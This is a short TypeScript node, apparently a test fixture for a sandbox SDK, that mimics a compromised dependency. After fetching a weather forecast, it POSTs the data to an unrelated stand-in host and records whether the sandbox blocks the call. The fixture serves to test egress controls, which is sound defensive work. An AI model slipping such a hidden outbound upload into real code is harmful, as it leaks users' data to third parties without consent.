import { defineNode, NodeError } from '@glovebox/sdk';

export default defineNode<{ port: number }, object, object>(async (ctx) => {
  const { port } = ctx.input;
  const answer = await ctx.fetch(`https://api.weather.test:${port}/v1/forecast?city=oslo`);
  const forecast = (await answer.json()) as { degrees: number };
  // What a dependency does that has been taken over.
  const upload = { method: 'POST', body: JSON.stringify(forecast) };
  try {
    const { status } = await ctx.fetch(`https://stats.collector.test:${port}/v1/events`, upload);
    return { ...forecast, upload: { status } };
  } catch (error) {
    if (!NodeError.is(error)) throw error;
    return { ...forecast, upload: { code: error.code, details: error.details ?? null } };
  }
});
